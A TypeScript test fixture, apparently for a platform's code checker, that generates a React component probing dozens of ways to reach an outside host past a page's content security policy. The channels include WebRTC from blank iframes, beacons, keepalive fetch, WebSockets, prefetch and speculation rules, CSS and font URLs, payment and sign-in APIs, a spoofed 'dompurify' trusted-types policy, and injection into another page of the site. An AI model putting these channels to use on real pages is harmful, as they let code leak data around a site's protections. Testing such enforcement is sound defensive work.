/**
 * Sends to another host past the page's policy: by WebRTC of the page and of every blank window that it can create, by
 * links that resolve a host name, and by every other function with which Chromium sends a request without the policy.
 * An open page has no WebRTC in any of these windows; `fed check` refuses the code. The page's address has the other
 * host's address as `to`. `data-sent` lists the ways that gave a connection, and `data-tried` counts the attempted
 * requests.
 */
export const sendsPastThePolicy = (expose: string) => `
import { useEffect, useState } from 'react';
import { Area as Original } from './Original${expose}';
const to = new URLSearchParams(location.search).get('to') ?? '';
const sent: string[] = [];
function send(realm: Window | null | undefined, way: string) {
  const names = realm as unknown as Record<string, typeof RTCPeerConnection | undefined> | null;
  const Connection = names?.RTCPeerConnection ?? names?.webkitRTCPeerConnection;
  if (!Connection) return;
  sent.push(way);
  const connection = new Connection({ iceServers: [{ urls: 'stun:' + to }] });
  connection.createDataChannel('x');
  void connection.createOffer().then((offer) => connection.setLocalDescription(offer));
}
const attempt = (work: () => void) => { try { work(); } catch {} };
const frame = (attributes: Record<string, string> = {}) => {
  const made = document.createElement('iframe');
  for (const [name, value] of Object.entries(attributes)) made.setAttribute(name, value);
  return made;
};
function sendAll() {
  send(window, 'page');
  const inserts: Record<string, (node: Element) => unknown> = {
    append: (node) => document.body.append(node),
    insertBefore: (node) => document.body.insertBefore(node, null),
    after: (node) => document.body.lastElementChild?.after(node),
    html: (node) => document.documentElement.append(node),
    range: (node) => { const range = document.createRange(); range.selectNode(document.body.lastElementChild!); range.insertNode(node); },
    shadow: (node) => { const host = document.createElement('p'); host.attachShadow({ mode: 'closed' }).append(node); document.body.append(host); },
    svg: (node) => { const svg = document.createElementNS('http://www.w3.org/2000/svg', 'foreignObject'); svg.append(node); document.body.append(svg); },
  };
  for (const [way, insert] of Object.entries(inserts)) {
    const blank = frame();
    blank.onload = () => send(window[0] ?? blank.contentWindow, way + ' on load');
    attempt(() => insert(blank));
    attempt(() => send(blank.contentWindow, way));
    for (let at = 0; at < window.length; at += 1) attempt(() => send(window[at], way + ' by number'));
  }
  attempt(() => { document.body.insertAdjacentHTML('beforeend', '<iframe></iframe>'); send(window[window.length - 1], 'markup'); });
  attempt(() => {
    const policy = (window as unknown as { trustedTypes: { createPolicy(name: string, rules: object): { createHTML(text: string): string } } }).trustedTypes
      .createPolicy('dompurify', { createHTML: (text: string) => text });
    const box = document.createElement('div');
    document.body.append(box);
    box.innerHTML = policy.createHTML('<iframe srcdoc="<p>"></iframe>');
    send(window[window.length - 1], 'own policy');
  });
  attempt(() => send((document.body.appendChild(frame({ srcdoc: '<p>' })) as HTMLIFrameElement).contentWindow, 'srcdoc'));
  attempt(() => { document.write('<iframe></iframe>'); send(window[window.length - 1], 'document.write'); });
  attempt(() => {
    const game = frame({ src: 'https://games.example/', sandbox: 'allow-scripts allow-same-origin' });
    document.body.append(game);
    send(game.contentWindow, 'blank page before a game');
    const inner = game.contentDocument?.body.appendChild(game.contentDocument.createElement('iframe')) as HTMLIFrameElement;
    send(inner?.contentWindow, 'frame in a frame');
  });
  attempt(() => {
    const turned = frame({ src: 'https://games.example/', sandbox: 'allow-scripts allow-same-origin' });
    document.body.append(turned);
    const at = window.length - 1;
    turned.src = 'about:blank';
    const { port1, port2 } = new MessageChannel();
    const end = Date.now() + 1500;
    port1.onmessage = () => {
      attempt(() => send(window[at], 'turned into a blank page'));
      attempt(() => send(turned.contentWindow, 'turned into a blank page'));
      if (Date.now() < end) port2.postMessage(null);
    };
    port2.postMessage(null);
  });
  attempt(() => send(window.open('', 'blank'), 'opened window'));
  for (const rel of ['dns-prefetch', 'preconnect'])
    attempt(() => document.head.append(Object.assign(document.createElement('link'), { rel, href: 'http://' + to })));
}
const byName = window as unknown as Record<string, (to: string, how: object) => void>;
const put = (name: string, attributes: Record<string, string>, into: Element = document.body) => {
  const made = document.createElement(name);
  for (const [key, value] of Object.entries(attributes)) made.setAttribute(key, value);
  into.append(made);
  return made;
};
const styled = (property: string, value: string) => put('p', {}).style.setProperty(property, value);
const rules = (kind: string, url: string) => {
  const script = document.createElement('script');
  script.type = 'speculationrules';
  script.append(JSON.stringify({ [kind]: [{ source: 'list', urls: [url], eagerness: 'immediate' }] }));
  document.head.append(script);
};
const requests: Record<string, (url: string) => unknown> = {
  beacon: (url) => navigator.sendBeacon(url, 'x'),
  'fetch that outlives the page': (url) => fetch(url, { mode: 'no-cors', method: 'POST', keepalive: true }),
  'deferred fetch': (url) => byName['fetch' + 'Later']!(url, { activateAfter: 0 }),
  stream: (url) => new EventSource(url),
  socket: (url) => new WebSocket(url.replace('http', 'ws')),
  ping: (url) => put('a', { href: '/robots.txt', target: '_blank', ping: url }).click(),
  'prefetch by rules': (url) => rules('prefetch', url),
  'prerender by rules': (url) => rules('prerender', url),
  prefetch: (url) => put('link', { rel: 'prefetch', href: url }, document.head),
  preload: (url) => put('link', { rel: 'preload', as: 'image', href: url }, document.head),
  'preload of a module': (url) => put('link', { rel: 'modulepreload', href: url }, document.head),
  dictionary: (url) => put('link', { rel: 'compression-dictionary', href: url }, document.head),
  icon: (url) => put('link', { rel: 'icon', href: url }, document.head),
  'style sheet': (url) => put('link', { rel: 'stylesheet', href: url }, document.head),
  background: (url) => styled('background-image', 'url(' + url + ')'),
  mask: (url) => styled('mask', 'url(' + url + '#m)'),
  'border image': (url) => styled('border-image', 'url(' + url + ') 1'),
  'rule of a sheet': (url) => {
    document.styleSheets[0]!.insertRule('p{list-style:url(' + url + ')}');
    put('p', { style: 'display:list-item' });
  },
  font: (url) => new FontFace('x', 'url(' + url + ')').load(),
  poster: (url) => put('video', { poster: url }),
  video: (url) => put('video', { src: url, preload: 'auto' }),
  'picture in a drawing': (url) => {
    const image = document.createElementNS('http://www.w3.org/2000/svg', 'image');
    image.setAttribute('href', url);
    const svg = document.createElementNS('http://www.w3.org/2000/svg', 'svg');
    svg.append(image);
    document.body.append(svg);
  },
  'audio worklet': (url) => new AudioContext().audioWorklet.addModule(url),
  payment: (url) => new PaymentRequest([{ supportedMethods: url }], { total: { label: 'x', amount: { currency: 'BDT', value: '1' } } }).canMakePayment(),
  'sign-in of the browser': (url) => navigator.credentials.get({ identity: { providers: [{ configURL: url, clientId: 'x' }] } } as CredentialRequestOptions),
  'picture in an answer of the site': (url) => {
    const opened = window.open('/wps/system/status');
    setTimeout(() => attempt(() => {
      const image = opened!.document.createElement('img');
      image.src = url;
      opened!.document.body.append(image);
      sent.push('reached into an answer of the site');
    }), 1500);
  },
};
function requestAll() {
  for (const [way, request] of Object.entries(requests))
    attempt(() => void Promise.resolve(request('http://' + to + '/' + encodeURIComponent(way))).catch(() => {}));
}
export function Area() {
  const [told, setTold] = useState('');
  useEffect(() => {
    sendAll();
    requestAll();
    setTimeout(() => setTold(sent.join(', ') || 'nothing'), 2500);
  }, []);
  return <div data-sent={told} data-tried={Object.keys(requests).length}><Original /></div>;
}
`;
